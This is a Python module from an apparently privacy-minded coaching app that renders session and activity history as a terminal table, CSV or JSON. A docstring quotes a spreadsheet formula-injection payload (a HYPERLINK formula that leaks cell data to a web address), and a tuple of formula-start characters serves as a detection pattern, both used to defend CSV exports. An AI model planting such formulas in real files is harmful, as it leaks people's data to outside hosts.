"""Sessions as an aligned text table, CSV or JSON: for the terminal, a spreadsheet, a script.

All three carry the same facts, oldest session first: every check-in answer (one column per
question; a question asked and left unanswered is ``null`` in JSON and "not answered" in the
table and CSV, a question not asked is absent or blank), attempts and resistance, and whether
the session counts toward the plan (the definition of :func:`coach.journal.figures.counts`). The table is for reading in a terminal:
notes are shortened to one line and control characters made visible. JSON keeps every
character the person wrote (unsafe ones as ``\\uXXXX`` escapes, which mean the same); CSV
shows them as visible escapes, as the table does, since it is often printed to a terminal.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator, Mapping, Sequence
from itertools import chain
from typing import TYPE_CHECKING, Any

from coach.journal.figures import counts, pain_answer
from coach.journal.records import ActivityRecord, Answer, Answers, SessionRecord
from coach.pack.discreet import routine_label
from coach.pack.levels import all_questions
from coach.system.safe_text import clean, json_safe

if TYPE_CHECKING:
    from coach.pack.model import Pack, Program, Question

FORMATS = ("table", "csv", "json")

_SPACES = re.compile(r"\s+")
_NOTES_WIDTH = 40
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def level_name(program: Program | None, level_id: str | None) -> str:
    """The level's name from the content, else its id (a level since removed from the content)."""
    if not level_id:
        return ""
    if program is not None:
        for level in program.levels:
            if level.id == level_id:
                return level.name
    return level_id


def active_minutes(session: SessionRecord) -> float:
    return round(session.active_seconds / 60, 1)


def _cell(text: str) -> str:
    """A text cell a spreadsheet will not run: a protocol title from someone else's pack such as
    ``=HYPERLINK("https://...?"&A2)`` would otherwise send the person's data off the machine when
    the file is opened. The OWASP remedy: a leading quote. JSON keeps the text exactly."""
    text = clean(text)  # CSV goes to terminals too: no raw escape or bidi control
    return "'" + text if text[:1] in _FORMULA_START else text


class _SafeCsv:
    """``csv.writer`` with :func:`_cell` applied to every text cell it writes, the header row
    included (a pack's ``level_noun`` is a column heading): the rule sits where the file is
    written, so no row or column added later can skip it."""

    def __init__(self, out: io.StringIO) -> None:
        self._writer = csv.writer(out, lineterminator="\n")

    def writerow(self, cells: Sequence[object]) -> None:
        self._writer.writerow([_cell(c) if isinstance(c, str) else c for c in cells])


def _yes_no(value: bool | None) -> str:
    return "" if value is None else ("yes" if value else "no")


def _pain_cell(session: SessionRecord, pain: bool | None) -> str:
    """The pain column: yes, no, not answered (a check-in that left it), or blank (none)."""
    if pain is None and session.checked_in:
        return NOT_ANSWERED
    return _yes_no(pain)


NOT_ANSWERED = "not answered"
"""How a question asked and left unanswered is said, everywhere: never "no", never blank."""


def answer_said(question: Question | None, answers: Answers, question_id: str) -> str:
    """An answer of a check-in as a person reads it: "" when the question was not asked,
    :data:`NOT_ANSWERED` when it was and had no answer, else :func:`answer_text`."""
    if question_id not in answers:
        return ""
    value = answers[question_id]
    return NOT_ANSWERED if value is None else answer_text(question, value)


def answer_text(question: Question | None, value: Answer | None) -> str:
    """An answer as a person reads it: yes/no, the number, the option's label, the text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return _yes_no(value)
    if question is not None and question.kind == "choice":
        option = question.option(str(value))
        return option.label if option is not None else str(value)
    return str(value)


def columns(sessions: Sequence[SessionRecord], pack: Pack | None) -> list[tuple[str, str]]:
    """The answer columns ``(question id, heading)``: the pack's questions, then any other
    answer found (another pack's, or a question since removed), so nothing is left out."""
    questions = all_questions(pack) if pack is not None else {}
    found = [(q.id, q.id) for q in questions.values()]
    known = {qid for qid, _ in found}
    extra = sorted({k for s in sessions for k in s.answers if k not in known})
    return found + [(k, k) for k in extra]


def activity_rows(
    activities: Sequence[ActivityRecord], *, all_packs: bool = False
) -> list[dict[str, Any]]:
    """One plain dict per logged activity (``"kind": "activity"``), oldest first."""
    return [
        {
            **({"pack": a.pack_id} if all_packs else {}),
            "kind": "activity",
            "date": a.day.isoformat(),
            "activity": a.title,
            "activity_id": a.activity_id,
            "counts": a.counts,
            "notes": a.note,
        }
        for a in sorted(activities, key=lambda a: (a.day, a.id))
    ]


def _oldest_first(sessions: Sequence[SessionRecord]) -> list[SessionRecord]:
    return sorted(sessions, key=lambda s: s.started)


def _iter_rows(
    ordered: Sequence[SessionRecord], pack: Pack | None, *, all_packs: bool = False
) -> Iterator[dict[str, Any]]:
    """One plain dict per session, in the order given (oldest first): the JSON objects, and
    what the CSV and the table are made from."""
    program = pack.program if pack is not None else None
    answer_ids = [qid for qid, _ in columns(ordered, pack)]
    questions = _questions(pack)
    for s in ordered:
        mine = pack is not None and s.pack_id == pack.info.id
        row: dict[str, Any] = {"pack": s.pack_id} if all_packs else {}
        row.update(
            {
                "kind": "session",
                "date": s.day.isoformat(),
                "started": s.started.isoformat(timespec="seconds"),
                "protocol": s.protocol_title,
                "protocol_id": s.protocol_id,
                "level": level_name(program if mine else None, s.level_id),
                "level_id": s.level_id,
                "active_minutes": active_minutes(s),
                "steps_done": s.steps_done,
                "steps_total": s.steps_total,
                "attempts": s.attempts,
                "resistances": s.resistances,
                "pain": pain_answer(s, questions),
                "pain_stop": s.pain_stop,
                "answers": {k: s.answers[k] for k in answer_ids if k in s.answers},
                "finished": s.finished,
                "status": s.status,
                "counts": counts(s, pack) if mine and pack is not None else None,
                "notes": s.notes,
            }
        )
        yield row


def iter_json(
    sessions: Sequence[SessionRecord],
    pack: Pack | None,
    *,
    all_packs: bool = False,
    activities: Sequence[ActivityRecord] = (),
) -> Iterator[str]:
    """Sessions, then logged activities (each object says its ``kind``): the same text as one
    ``json.dumps(..., indent=2)`` of the whole list (a JSON string holds no raw newline, so
    indenting each object's lines by two spaces is exact)."""
    found = chain(
        _iter_rows(_oldest_first(sessions), pack, all_packs=all_packs),
        activity_rows(activities, all_packs=all_packs),
    )
    first = True
    for obj in found:
        text = json_safe(json.dumps(obj, indent=2, ensure_ascii=False))
        yield ("[\n  " if first else ",\n  ") + text.replace("\n", "\n  ")
        first = False
    yield "[]\n" if first else "\n]\n"


def _questions(pack: Pack | None) -> dict[str, Question]:
    return all_questions(pack) if pack is not None else {}


def _is_pain(questions: dict[str, Question], question_id: str) -> bool:
    question = questions.get(question_id)
    return question is not None and question.pain


def iter_csv(
    sessions: Sequence[SessionRecord],
    pack: Pack | None,
    *,
    all_packs: bool = False,
    activities: Sequence[ActivityRecord] = (),
) -> Iterator[str]:
    """The CSV a row at a time."""
    noun = pack.program.level_noun if pack is not None and pack.program else "level"
    questions = _questions(pack)
    # A pain question's answer is the "pain" column (a pain stop included).
    answer_cols = [(q, h) for q, h in columns(sessions, pack) if not _is_pain(questions, q)]
    out = io.StringIO()
    writer = _SafeCsv(out)

    def taken() -> str:
        text = out.getvalue()
        out.seek(0)
        out.truncate()
        return text

    writer.writerow(
        [
            *(["pack"] if all_packs else []),
            "date",
            "time",
            "protocol",
            noun,
            "active minutes",
            "steps done",
            "attempts",
            "resistances",
            "pain",
            *[heading for _, heading in answer_cols],
            "finished",
            "status",
            "counts",
            "notes",
        ]
    )
    yield taken()
    ordered = _oldest_first(sessions)
    for row, s in zip(_iter_rows(ordered, pack, all_packs=all_packs), ordered, strict=True):
        writer.writerow(
            [
                *([s.pack_id] if all_packs else []),
                row["date"],
                s.started.strftime("%H:%M"),
                row["protocol"],
                row["level"],
                f"{row['active_minutes']:.1f}",
                s.steps_done,
                s.attempts,
                s.resistances,
                _pain_cell(s, row["pain"]),
                *[answer_said(questions.get(qid), s.answers, qid) for qid, _ in answer_cols],
                _yes_no(s.finished),
                s.status,
                _yes_no(row["counts"]),
                s.notes,
            ]
        )
        yield taken()
    blank = [""] * len(answer_cols)
    for a in sorted(activities, key=lambda a: (a.day, a.id)):
        # A logged activity: no time, steps or answers; its title in the protocol column.
        writer.writerow(
            [
                *([a.pack_id] if all_packs else []),
                a.day.isoformat(),
                "",
                a.title,
                "",
                "",
                "",
                "",
                "",
                "",
                *blank,
                "",
                "logged",
                _yes_no(a.counts),
                a.note,
            ]
        )
        yield taken()


def iter_table(
    sessions: Sequence[SessionRecord],
    pack: Pack | None,
    *,
    all_packs: bool = False,
    names: Mapping[str, str] | None = None,
) -> Iterator[str]:
    """The aligned table a line at a time (its widths need every cell first; the text does not
    wait for one string of it all). ``names``: discreet mode's neutral routine names by
    protocol id (:func:`coach.pack.discreet.pack_routine_names`), shown for the protocols."""
    noun = pack.program.level_noun if pack is not None and pack.program else "level"
    questions = _questions(pack)
    answer_cols = [(q, h) for q, h in columns(sessions, pack) if not _is_pain(questions, q)]
    header = [
        *(["Pack"] if all_packs else []),
        "Date",
        "Protocol",
        noun.capitalize(),
        "Min",
        "Tries",
        "Resist",
        "Pain",
        *[heading.capitalize() for _, heading in answer_cols],
        "Finished",
        "Counts",
        "Notes",
    ]
    header = [clean(cell) for cell in header]  # a pack's noun, as wide as it will be shown
    offset = 1 if all_packs else 0
    numeric = {3 + offset, 4 + offset, 5 + offset}
    body = []
    ordered = _oldest_first(sessions)
    for row, s in zip(_iter_rows(ordered, pack, all_packs=all_packs), ordered, strict=True):
        notes = _SPACES.sub(" ", clean(s.notes)).strip()
        if len(notes) > _NOTES_WIDTH:
            notes = notes[: _NOTES_WIDTH - 1] + "…"
        answers = []
        for qid, _ in answer_cols:
            text = _SPACES.sub(" ", clean(answer_said(questions.get(qid), s.answers, qid)))
            answers.append(text if len(text) <= 24 else text[:23] + "…")
        body.append(
            [
                *([clean(s.pack_id)] if all_packs else []),
                s.started.strftime("%Y-%m-%d %H:%M"),
                clean(
                    routine_label(s.protocol_id, names) if names is not None else s.protocol_title
                ),
                clean(row["level"]),
                f"{active_minutes(s):.1f}",
                str(s.attempts),
                str(s.resistances),
                "stop" if s.pain_stop else _pain_cell(s, row["pain"]),
                *answers,
                s.status,
                _yes_no(row["counts"]),
                notes,
            ]
        )
    widths = [len(cell) for cell in header]
    for r in body:
        for i, cell in enumerate(r):
            widths[i] = max(widths[i], len(cell))

    def line(r: list[str]) -> str:
        cells = [
            cell.rjust(widths[i]) if i in numeric else cell.ljust(widths[i])
            for i, cell in enumerate(r)
        ]
        return "  ".join(cells).rstrip() + "\n"

    yield line(header)
    yield "  ".join("-" * w for w in widths) + "\n"
    for r in body:
        yield line(r)


def render(
    fmt: str,
    sessions: Sequence[SessionRecord],
    pack: Pack | None,
    *,
    all_packs: bool = False,
    activities: Sequence[ActivityRecord] = (),
) -> str:
    return "".join(iter_render(fmt, sessions, pack, all_packs=all_packs, activities=activities))


def iter_render(
    fmt: str,
    sessions: Sequence[SessionRecord],
    pack: Pack | None,
    *,
    all_packs: bool = False,
    activities: Sequence[ActivityRecord] = (),
    names: Mapping[str, str] | None = None,
) -> Iterator[str]:
    """:func:`render` a piece at a time, for writing as it is made (``coach history``).

    ``names`` (discreet mode) names the routines neutrally in the table, the format for a
    screen; CSV and JSON are the person's own data, exported as it is."""
    if fmt == "csv":
        return iter_csv(sessions, pack, all_packs=all_packs, activities=activities)
    if fmt == "json":
        return iter_json(sessions, pack, all_packs=all_packs, activities=activities)
    if fmt == "table":
        table = (
            iter_table(sessions, pack, all_packs=all_packs, names=names) if sessions else iter(())
        )
        if not activities:
            return table
        logged = (
            # discreet: when, never what (as the history screen says them)
            f"  {a.day.isoformat()}  {'an activity' if names is not None else clean(a.title)}"
            + ("" if a.counts else " (not counted)")
            + (f"  {clean(' '.join(a.note.split()))}" if a.note.strip() else "")
            + "\n"
            for a in sorted(activities, key=lambda a: (a.day, a.id))
        )
        return chain(table, ["\nLogged activities:\n"], logged)
    raise ValueError(f"unknown format {fmt!r}; use one of {', '.join(FORMATS)}")
